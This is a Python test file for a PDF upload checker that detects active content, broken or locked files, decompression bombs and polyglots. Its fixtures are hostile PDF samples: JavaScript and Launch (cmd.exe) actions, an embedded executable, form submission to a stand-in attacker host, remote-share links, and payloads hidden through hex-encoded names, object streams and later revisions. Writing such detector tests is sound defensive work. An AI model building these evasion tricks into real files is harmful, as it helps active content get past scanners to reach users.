"""Whatever runs, opens or carries something else is found, however it is spelled and wherever it is kept."""

import zlib
from collections.abc import Callable
from typing import Final

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Name, Pdf

from lib.dokumen import child, periksa
from tests.lib.dokumen import pdf_susun as susun
from tests.lib.dokumen.contoh import assemble, make_pdf, make_stream

SCRIPT: Final = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH: Final = b"<< /S /Launch /F (cmd.exe) >>"
ATTACHED: Final = [b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>", make_stream(b"MZ", b"/Type /EmbeddedFile")]


def packed_stray(pack: susun.Packer) -> bytes:
    """An object stream that no table knows: a reader that puts the file together again finds it."""
    content, filters = pack(b"9 0 " + SCRIPT)
    return make_pdf(more=b"8 0 obj\n" + make_stream(content, b"/Type /ObjStm /N 1 /First 4 " + filters) + b"\nendobj\n")


def packed_blank(megabytes: int) -> bytes:
    return zlib.compress(bytes(megabytes * 1_000_000), 1)


def deep(inside: bytes, depth: int) -> bytes:
    return b"<< /Type /X /K " + b"[<< /K " * depth + inside + b" >>]" * depth + b" >>"


def without_table(isi: bytes) -> bytes:
    return isi[: isi.index(b"xref\n0")] + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def annotate(**fields: object) -> Callable[[Pdf], None]:
    """On the second page, as an editor writes it: one annotation with these entries."""

    def change(pdf: Pdf) -> None:
        row = pikepdf.Dictionary(Type=Name("/Annot"), Rect=[0, 0, 9, 9], **fields)
        pdf.pages[1].Annots = pikepdf.Array([pdf.make_indirect(row)])

    return change


def action(kind: str, **fields: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=Name(kind), **fields)


def with_field(**fields: object) -> Callable[[Pdf], None]:
    """A field below another one, which the page shows."""

    def change(pdf: Pdf) -> None:
        child = pdf.make_indirect(pikepdf.Dictionary(T="b", Subtype=Name("/Widget"), Rect=[0, 0, 9, 9], **fields))
        parent = pdf.make_indirect(pikepdf.Dictionary(T="a", FT=Name("/Tx"), Kids=[child]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[parent])
        pdf.pages[1].Annots = pikepdf.Array([child])

    return change


def attach(pdf: Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def open_page(pdf: Pdf) -> None:
    pdf.pages[1].AA = pikepdf.Dictionary(O=action("/URI", URI="https://jahat.example"))


def fill_names(pdf: Pdf) -> None:
    """A tree of names of two floors."""
    leaf = pdf.make_indirect(pikepdf.Dictionary(Names=["a", action("/JavaScript", JS="app.alert(1)")], Limits=["a", "a"]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Kids=[pikepdf.Dictionary(Kids=[leaf])]))


def outline(pdf: Pdf) -> None:
    with pdf.open_outline() as tree:
        tree.root.append(pikepdf.OutlineItem("Bab 1", action=action("/Launch", F="cmd.exe")))


SUNTINGAN: Final[dict[str, Callable[[Pdf], None]]] = {
    "file that is attached": attach,
    "address when the second page opens": open_page,
    "names of two floors": fill_names,
    "launch in the outline": outline,
    "launch in a link": annotate(Subtype=Name("/Link"), A=action("/Launch", F="cmd.exe")),
    "other file in a link": annotate(Subtype=Name("/Link"), A=action("/GoToR", F="a.pdf", D=[0, Name("/Fit")])),
    "submit behind a harmless step": annotate(
        Subtype=Name("/Link"), A=action("/URI", URI="https://example.go.id", Next=[action("/SubmitForm", F="https://jahat.example")])
    ),
    "address without a click on a link": annotate(
        Subtype=Name("/Link"), AA=pikepdf.Dictionary(E=action("/URI", URI="https://jahat.example"))
    ),
    "former action of a link": annotate(Subtype=Name("/Link"), PA=action("/Launch", F="cmd.exe")),
    "rich media": annotate(Subtype=Name("/RichMedia"), RichMediaContent=pikepdf.Dictionary()),
    "calculation of a field": with_field(AA=pikepdf.Dictionary(C=action("/JavaScript", JS="1"))),
    "submit of a field": with_field(A=action("/SubmitForm", F="https://jahat.example", Flags=4)),
}
ACTIVE = {
    "script": make_pdf(objects=[SCRIPT]),
    "script alone": make_pdf(objects=[b"<< /JS (app.alert(1)) >>"]),
    "script as a stream": make_pdf(objects=[b"<< /S /JavaScript /JS 5 0 R >>", make_stream(b"app.alert(1)")]),
    "hex names": make_pdf(objects=[b"<< /#53 /#4a#61vaScript /#4A#53 (app.alert(1)) >>"]),
    "hex name of the tree": make_pdf(catalog=b"/N#61mes << /Java#53cript << /Names [(a) 4 0 R] >> >>", objects=[b"<< >>"]),
    "names tree": make_pdf(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", objects=[SCRIPT]),
    "kind by reference": make_pdf(objects=[b"<< /S 5 0 R /F (cmd.exe) >>", b"/Launch"]),
    "launch": make_pdf(objects=[LAUNCH]),
    "launch, more than 500 bytes": make_pdf(objects=[b"<< /Pad (%s) /S /Launch >>" % (b"x" * 5000)]),
    "embedded file": make_pdf(objects=ATTACHED),
    "embedded file, only the stream": make_pdf(objects=[ATTACHED[1]]),
    "embedded files of the catalog": make_pdf(catalog=b"/Names << /EmbeddedFiles << /Names [] >> >>"),
    "file behind a pin": make_pdf(objects=[b"<< /Type /Annot /Subtype /FileAttachment >>"]),
    "rich media": make_pdf(objects=[b"<< /Type /Annot /Subtype /RichMedia /RichMediaContent << >> >>"]),
    "film": make_pdf(objects=[b"<< /Subtype /Movie >>"]),
    "screen": make_pdf(objects=[b"<< /Subtype /Screen /A << /S /Rendition >> >>"]),
    "3d": make_pdf(objects=[b"<< /Subtype /3D >>"]),
    "xfa": make_pdf(catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>", objects=[make_stream(b"<xdp/>")]),
    "submit": make_pdf(objects=[b"<< /Subtype /Link /A << /S /SubmitForm /F (http://jahat.example) >> >>"]),
    "import data": make_pdf(objects=[b"<< /S /ImportData /F (a.fdf) >>"]),
    "other file": make_pdf(objects=[b"<< /A << /S /GoToR /F (\\\\\\\\jahat\\\\a) >> >>"]),
    "embedded other file": make_pdf(objects=[b"<< /A << /S /GoToE >> >>"]),
    "address at opening": make_pdf(catalog=b"/OpenAction << /S /URI /URI (https://jahat.example) >>"),
    "script at opening": make_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R] /Next [<< /S /Named /Next 4 0 R >>] >>", objects=[SCRIPT]),
    "address when the page opens": make_pdf(objects=[b"<< /AA << /O << /S /URI /URI (https://jahat.example) >> >> >>"]),
    "unknown kind of action": make_pdf(objects=[b"<< /A << /S /Baru >> >>"]),
    "endless chain": make_pdf(objects=[b"<< /A 5 0 R >>", b"<< /S /GoTo /Next 5 0 R >>"]),
    "script in a link": make_pdf(objects=[b"<< /S /URI /URI (java\\nscript:alert(1)) >>"]),
    "script in a link, a number first": make_pdf(objects=[b"<< /S /URI /URI (javascript:1;alert(1)) >>"]),
    "program in a link, a dot in its scheme": make_pdf(objects=[b"<< /S /URI /URI (x-apple.systempreferences:a) >>"]),
    "share of another machine in a link": make_pdf(objects=[b"<< /S /URI /URI (\\\\\\\\jahat\\\\a) >>"]),
    "address without a scheme in a link": make_pdf(objects=[b"<< /S /URI /URI (//jahat.example/a) >>"]),
    "script as the base of links": make_pdf(catalog=b"/URI << /Base (javascript:alert) >>"),
    "thread of another file": make_pdf(objects=[b"<< /A << /S /Thread /F (//jahat/a) >> >>"]),
    "page of another file as a picture": make_pdf(objects=[make_stream(b"", b"/Subtype /Form /Ref << /F (//jahat/a) /Page 0 >>")]),
    "address when the page opens, held in a stream": make_pdf(
        objects=[b"<< /AA << /O 5 0 R >> >>", make_stream(b"", b"/S /URI /URI (https://jahat.example)")]
    ),
    "program of the printer": make_pdf(objects=[make_stream(b"", b"/Type /XObject /Subtype /PS")]),
    **{f"written by an editor: {name}": susun.edited(change) for name, change in SUNTINGAN.items()},
    "local file in a link": make_pdf(objects=[b"<< /S /URI /URI (FILE:///C:/a.exe) >>"]),
    "content in another file": make_pdf(objects=[make_stream(b"", b"/F (//jahat/a)")]),
    "in an array in a dictionary": make_pdf(objects=[deep(LAUNCH, 20)]),
    "in a circle": make_pdf(objects=[b"<< /K [5 0 R] >>", b"<< /K [4 0 R << /K 5 0 R /L %s >>] >>" % SCRIPT]),
    "in the trailer": assemble(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", b"<< /Type /Page /Parent 2 0 R >>"],
        trailer=b"/Info << /A %s >>" % LAUNCH,
    ),
    "packed": susun.make_packed([SCRIPT]),
    "packed without filter": susun.make_packed([SCRIPT], susun.plain),
    "packed in hex": susun.make_packed([SCRIPT], susun.hexed),
    "packed three times": susun.make_packed([LAUNCH], susun.chained),
    "packed, the kind in hex": susun.make_packed([SCRIPT], susun.plain, kind=b"/Obj#53tm"),
    "packed in a dictionary over 500 bytes": susun.make_packed([SCRIPT], susun.hexed, filler=b"/Pad (%s)" % (b"x" * 900)),
    "packed, names in hex": susun.make_packed([b"<< /#53 /L#61unch >>"], susun.flate),
    "added later": susun.update(make_pdf(), 4, SCRIPT),
    "hidden by a later version": susun.update(make_pdf(catalog=b"/OpenAction 4 0 R", objects=[SCRIPT]), 4, b"null"),
    "hidden in a packed file": susun.update(susun.make_packed([SCRIPT]), 6, b"null"),
    "not in the table": make_pdf(more=b"9 0 obj\n" + SCRIPT + b"\nendobj\n"),
    "packed and not in the table": packed_stray(susun.flate),
    "packed plainly and not in the table": packed_stray(susun.plain),
    "packed, known, its content not": susun.make_packed([SCRIPT], susun.hexed, listed=False),
}
BROKEN = {
    "without a table": without_table(make_pdf(objects=[SCRIPT])),
    "without a table, harmless": without_table(make_pdf()),
    "table points elsewhere": make_pdf().replace(b"0000000009 00000 n", b"0000000011 00000 n"),
    "start of the table is wrong": make_pdf().replace(b"startxref\n", b"startxref\n9"),
    "stream longer than it says": make_pdf(objects=[make_stream(b"abc").replace(b"/Length 3", b"/Length 1")]),
    "stream that cannot be unpacked": make_pdf(objects=[make_stream(b"not packed at all", b"/Filter /FlateDecode")]),
    "stream broken in the middle": make_pdf(objects=[make_stream(b"\x78\x9c" + b"\xff" * 40, b"/Filter /FlateDecode")]),
    "unknown filter": make_pdf(objects=[make_stream(b"abc", b"/Filter /Rahasia")]),
    "crypt filter": make_pdf(objects=[make_stream(b"abc", b"/Filter /Crypt")]),
    "six filters": make_pdf(objects=[make_stream(b">", b"/Filter [%s]" % (b"/AHx " * 6))]),
    "filter that is no name": make_pdf(objects=[make_stream(b"abc", b"/Filter (FlateDecode)")]),
    "broken object stream": susun.make_packed([SCRIPT], lambda content: (content, b"/Filter /FlateDecode")),
    "object cut off": make_pdf(objects=[b"<< /A << /B (open"]),
    "object of unknown words": make_pdf(objects=[b"<< /A rahasia >>"]),
    "deeper than anybody needs": make_pdf(objects=[b"[" * 300 + b"]" * 300]),
    "pages in a circle": make_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    "no pages": make_pdf(0),
    "no catalog": assemble([b"null"]),
    "twenty-one versions": make_pdf(more=b"%%EOF\n" * 20),
}
BOMBS = {
    "one stream": lambda: make_pdf(objects=[make_stream(packed_blank(120), b"/Filter /FlateDecode")]),
    "many streams": lambda: make_pdf(objects=[make_stream(packed_blank(90), b"/Filter /FlateDecode")] * 5),
    "packed twice": lambda: make_pdf(objects=[make_stream(zlib.compress(packed_blank(200)), b"/Filter [/FlateDecode /FlateDecode]")]),
    "object stream": lambda: susun.make_packed([b" " * 120_000_000]),
    "many objects": lambda: susun.make_packed([b"[" + b"[] " * 400_000 + b"]"]),
}
POLYGLOTS = {
    "page behind": (make_pdf() + b"<html><script>alert(1)</script></html>", "data_lain"),
    "page before": (b"<html><script>alert(1)</script>" + make_pdf(), "isi_berbeda"),
    "second pdf with a script inside a stream": (make_pdf(objects=[make_stream(make_pdf(objects=[SCRIPT]))]), "pdf_aktif"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_runs_is_found(name: str) -> None:
    assert child.answer(ACTIVE[name]) == ("pdf_aktif", {})


@pytest.mark.parametrize("name", BROKEN)
def test_what_cannot_be_read_as_a_whole_is_refused(name: str) -> None:
    assert child.answer(BROKEN[name]) == ("pdf_rusak", {})


@pytest.mark.parametrize("owner_only", [True, False])
def test_a_locked_file_is_refused(owner_only: bool) -> None:
    """Also one that opens without a password: its permissions are a lock that not every reader honours."""
    lock = pikepdf.Encryption(owner="pemilik", user="" if owner_only else "rahasia")
    assert child.answer(susun.saved(encryption=lock)) == ("pdf_terkunci", {})


def test_pages_are_counted_wherever_they_lie() -> None:
    for isi in (make_pdf(51), susun.saved(make_pdf(51), object_stream_mode=pikepdf.ObjectStreamMode.generate)):
        assert child.answer(isi) == ("terlalu_banyak_halaman", {"halaman": 51})


def code_of(isi: bytes) -> str:
    """Through the child process."""
    with pytest.raises(ValidationError) as refused:
        periksa.inspect(isi, "bukti.pdf")
    return str(refused.value.code)


@pytest.mark.parametrize("name", BOMBS)
def test_what_unpacks_beyond_all_measure_is_refused(name: str) -> None:
    assert code_of(BOMBS[name]()) in {"pdf_bom", "pdf_rusak"}


@pytest.mark.parametrize("name", POLYGLOTS)
def test_double_natures(name: str) -> None:
    isi, code = POLYGLOTS[name]
    assert code_of(isi) == code
